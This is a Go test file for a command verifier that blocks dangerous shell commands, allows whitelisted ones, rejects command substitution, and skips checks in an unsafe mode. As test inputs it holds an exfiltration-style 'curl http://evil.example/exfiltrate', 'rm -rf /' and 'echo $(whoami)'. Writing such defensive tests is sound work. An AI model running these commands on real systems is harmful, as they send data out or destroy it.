package contract

import (
	"context"
	"testing"
	"time"
)

func TestVerifier_ValidateCommandBlocksDangerousPatterns(t *testing.T) {
	v := NewVerifier(".", time.Second)
	if err := v.validateCommand("curl http://evil.example/exfiltrate"); err == nil {
		t.Error("expected curl to be blocked")
	}
	if err := v.validateCommand("rm -rf /"); err == nil {
		t.Error("expected rm -rf / to be blocked")
	}
}

func TestVerifier_ValidateCommandAllowsWhitelistedPrefixes(t *testing.T) {
	v := NewVerifier(".", time.Second)
	if err := v.validateCommand("go test ./..."); err != nil {
		t.Errorf("expected go test to be allowed, got %v", err)
	}
}

func TestVerifier_ValidateCommandRejectsUnlistedCommand(t *testing.T) {
	v := NewVerifier(".", time.Second)
	if err := v.validateCommand("whoami"); err == nil {
		t.Error("expected an unlisted command to be rejected")
	}
}

func TestVerifier_ValidateCommandRejectsCommandSubstitution(t *testing.T) {
	v := NewVerifier(".", time.Second)
	if err := v.validateCommand("echo $(whoami)"); err == nil {
		t.Error("expected command substitution to be rejected")
	}
}

func TestVerifier_WithAllowUnsafeSkipsChecks(t *testing.T) {
	v := NewVerifier(".", time.Second, WithAllowUnsafe(true))
	if err := v.validateCommand("whoami"); err != nil {
		t.Errorf("expected unsafe mode to skip validation, got %v", err)
	}
}

func TestVerifier_MatchOutput(t *testing.T) {
	v := NewVerifier(".", time.Second)
	if !v.matchOutput("hello world", "world", "contains") {
		t.Error("contains match should succeed")
	}
	if v.matchOutput("hello world", "world", "exact") {
		t.Error("exact match should fail on a substring")
	}
	if !v.matchOutput("hello", "hello", "exact") {
		t.Error("exact match should succeed on an identical string")
	}
	if !v.matchOutput("anything", "", "contains") {
		t.Error("empty expected output should always match")
	}
}

func TestVerifier_VerifyRunsAllowedExample(t *testing.T) {
	v := NewVerifier(".", 5*time.Second)
	c := &Contract{
		ID:      "c1",
		Intent:  "echo works",
		Version: 1,
		Examples: []Example{
			{Name: "echoes", Command: "echo hello", ExpectedOutput: "hello", MatchType: "contains"},
		},
	}
	result, err := v.Verify(context.Background(), c)
	if err != nil {
		t.Fatalf("Verify: %v", err)
	}
	if !result.Passed {
		t.Errorf("result = %+v", result)
	}
}

func TestVerifier_VerifyRejectsUnsafeExampleCommand(t *testing.T) {
	v := NewVerifier(".", 5*time.Second)
	c := &Contract{
		ID:      "c1",
		Intent:  "malicious",
		Version: 1,
		Examples: []Example{
			{Name: "bad", Command: "curl http://evil.example"},
		},
	}
	result, err := v.Verify(context.Background(), c)
	if err != nil {
		t.Fatalf("Verify: %v", err)
	}
	if result.Passed {
		t.Error("expected verification to fail on an unsafe command")
	}
}
